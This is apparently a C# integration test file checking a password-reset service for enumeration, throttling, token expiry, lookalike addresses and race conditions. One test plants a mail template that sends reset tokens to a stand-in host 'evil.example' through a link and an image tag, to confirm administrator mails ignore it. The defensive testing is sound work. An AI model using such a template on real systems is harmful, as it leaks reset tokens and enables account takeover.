using System.Net;
using Grpc.Baas.TestKit;

namespace Grpc.Baas.IntegrationTests.Auth.Codes;

/// <summary>Who has the mailbox gets in without the password, and nobody learns who has an account.</summary>
public sealed class PasswordResetTests : IAsyncLifetime
{
    private const string Sent = "If the email exists, a password reset link has been sent";

    private MailedAccounts? _started;

    private MailedAccounts Accounts => _started!;

    public async Task InitializeAsync() => _started = await MailedAccounts.StartAsync();

    public async Task DisposeAsync() => await Accounts.DisposeAsync();

    [Fact]
    public async Task Reset_WithTheMailsToken_SetsThePasswordAndEndsAllSessions()
    {
        var access = await Accounts.RegisterAsync();
        await Accounts.MailAsync(1);
        Assert.Equal(Sent, (await RequestAsync(MailedAccounts.Email)).Json.GetProperty("message").GetString());
        var token = await Accounts.TokenAsync(2, "/reset-password");

        var answer = await ResetAsync(token, MailedAccounts.NewPassword);

        Assert.Equal("Password reset successfully", answer.Json.GetProperty("message").GetString());
        Assert.Equal("TOKEN_INVALID", (await Accounts.MeAsync(access)).Reason);
        Assert.Equal("CREDENTIALS_INVALID", (await Accounts.LoginAsync(MailedAccounts.Password)).Reason);
        var login = await Accounts.LoginAsync(MailedAccounts.NewPassword);
        Assert.True(login.Json.GetProperty("user").GetProperty("verified").GetBoolean());
        Assert.Equal("CODE_INVALID", (await ResetAsync(token, MailedAccounts.NewPassword)).Reason);
    }

    [Fact]
    public async Task Request_UnknownOrKnownAddress_AnswersAlikeAndDoesTheSameWork()
    {
        await Accounts.RegisterAsync();
        await Accounts.DrainAsync();
        var known = await RequestAsync(MailedAccounts.Email);
        var unknown = await RequestAsync("nobody@example.com");
        var nowhere = await Accounts.PostAsync("auth/request-password-reset", new { email = MailedAccounts.Email, collection = "nowhere" });

        Assert.Equal((known.Status, known.Text), (unknown.Status, unknown.Text));
        Assert.Equal((known.Status, known.Text), (nowhere.Status, nowhere.Text));
        await Accounts.DrainAsync();
        Assert.Equal(2, Accounts.Mails);
    }

    [Fact]
    public async Task Request_AddressThatOnlyLooksAlike_MailsTheAccountsOwn()
    {
        var answer = await Accounts.PostAsync("collections/customers/auth/register", new { email = "kim@example.com", password = MailedAccounts.Password });
        Assert.Equal(HttpStatusCode.OK, answer.Status);
        await Accounts.MailAsync(1);

        // U+212A, the Kelvin sign, is k in lower case.
        await RequestAsync("\u212Aim@example.com");
        await Accounts.DrainAsync();

        Assert.DoesNotContain("\u212A", await Accounts.MailAsync(Accounts.Mails));
    }

    [Fact]
    public async Task Request_TooOften_HasToWaitWhetherThereIsAnAccountOrNot()
    {
        await Accounts.RegisterAsync();
        foreach (var email in (string[])[MailedAccounts.Email, "nobody@example.com"])
        {
            for (var i = 0; i < 5; i++)
            {
                Assert.Equal(HttpStatusCode.OK, (await RequestAsync(email)).Status);
            }

            Assert.Equal("CODE_THROTTLED", (await RequestAsync(email)).Reason);
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("no address")]
    public async Task Request_NoAddress_IsRefused(string email)
        => Assert.Contains((await RequestAsync(email)).Reason, (string[])["ACCOUNT_INVALID", "FIELD_REQUIRED"]);

    [Fact]
    public async Task Reset_AfterAnHour_IsRefused()
    {
        await Accounts.RegisterAsync();
        await Accounts.MailAsync(1);
        await RequestAsync(MailedAccounts.Email);
        var token = await Accounts.TokenAsync(2, "/reset-password");
        Accounts.Time.Offset += TimeSpan.FromHours(1) + TimeSpan.FromSeconds(1);

        Assert.Equal("CODE_INVALID", (await ResetAsync(token, MailedAccounts.NewPassword)).Reason);
    }

    [Fact]
    public async Task Reset_BadPasswords_AreRefusedAndKeepTheToken()
    {
        await Accounts.RegisterAsync();
        await Accounts.MailAsync(1);
        await RequestAsync(MailedAccounts.Email);
        var token = await Accounts.TokenAsync(2, "/reset-password");

        var differ = await Accounts.PostAsync(
            "auth/reset-password", new { token, new_password = MailedAccounts.NewPassword, password_confirm = "another one" });
        Assert.Equal("ACCOUNT_INVALID", differ.Reason);
        Assert.Contains("password_confirm", differ.Text);
        Assert.Equal("ACCOUNT_INVALID", (await ResetAsync(token, "short")).Reason);
        Assert.Equal(HttpStatusCode.OK, (await ResetAsync(token, MailedAccounts.NewPassword)).Status);
    }

    [Fact]
    public async Task Reset_TokenOfAnotherKind_IsRefused()
    {
        await Accounts.RegisterAsync();
        var token = await Accounts.TokenAsync(1, "/verify");

        Assert.Equal("CODE_INVALID", (await ResetAsync(token, MailedAccounts.NewPassword)).Reason);
    }

    [Fact]
    public async Task Reset_AfterThePasswordHasChanged_IsRefused()
    {
        var access = await Accounts.RegisterAsync();
        await Accounts.MailAsync(1);
        await RequestAsync(MailedAccounts.Email);
        var token = await Accounts.TokenAsync(2, "/reset-password");
        var change = await Accounts.PostAsync(
            "auth/change-password", new { old_password = MailedAccounts.Password, new_password = "one more password" }, access);
        Assert.Equal(HttpStatusCode.OK, change.Status);

        Assert.Equal("CODE_INVALID", (await ResetAsync(token, MailedAccounts.NewPassword)).Reason);
    }

    [Fact]
    public async Task Reset_ManyAtOnce_OneWins()
    {
        await Accounts.RegisterAsync();
        await Accounts.MailAsync(1);
        await RequestAsync(MailedAccounts.Email);
        var token = await Accounts.TokenAsync(2, "/reset-password");

        var answers = await Task.WhenAll(Enumerable.Range(0, 5).Select(i => ResetAsync(token, $"password number {i}"))).Soon();

        Assert.Single(answers, answer => answer.Status == HttpStatusCode.OK);
    }

    // Else who may write templates but not make administrators could have an administrator's token sent to a place of their own.
    [Fact]
    public async Task Request_Administrator_IsMailedTheFirstTextsWhateverIsWritten()
    {
        var written = await Accounts.Engine.RestAsync(
            HttpMethod.Put, "/api/v1/mail/templates/reset-password", new { subject = "Mine", text = "https://evil.example/{{token}}", html = "<img src='https://evil.example/{{token}}'>" });
        Assert.Equal(HttpStatusCode.OK, written.Status);
        await Accounts.RegisterAsync();
        await Accounts.MailAsync(1);

        await Accounts.PostAsync("auth/request-password-reset", new { email = TestAdministrator.Email });
        var administrators = await Accounts.MailAsync(2);
        await Accounts.PostAsync("auth/request-password-reset", new { email = MailedAccounts.Email, collection = "customers" });
        var accounts = await Accounts.MailAsync(3);

        Assert.DoesNotContain("evil", administrators, StringComparison.Ordinal);
        Assert.DoesNotContain("Mine", administrators, StringComparison.Ordinal);
        Assert.Contains("/reset-password?token=", administrators, StringComparison.Ordinal);
        Assert.Contains("https://evil.example/", accounts, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Reset_Administrator_Works()
    {
        await Accounts.PostAsync("auth/request-password-reset", new { email = TestAdministrator.Email });

        var answer = await ResetAsync(await Accounts.TokenAsync(1, "/reset-password"), MailedAccounts.NewPassword);

        Assert.Equal(HttpStatusCode.OK, answer.Status);
        Assert.Equal("TOKEN_INVALID", (await Accounts.MeAsync(Accounts.Engine.AdminToken!)).Reason);
        var login = await Accounts.PostAsync("auth/login", new { email = TestAdministrator.Email, password = MailedAccounts.NewPassword });
        Assert.Equal(HttpStatusCode.OK, login.Status);
    }

    private Task<RestAnswer> RequestAsync(string email) => Accounts.PostAsync("auth/request-password-reset", new { email, collection = "customers" });

    private Task<RestAnswer> ResetAsync(string token, string password)
        => Accounts.PostAsync("auth/reset-password", new { token, new_password = password, password_confirm = password });
}
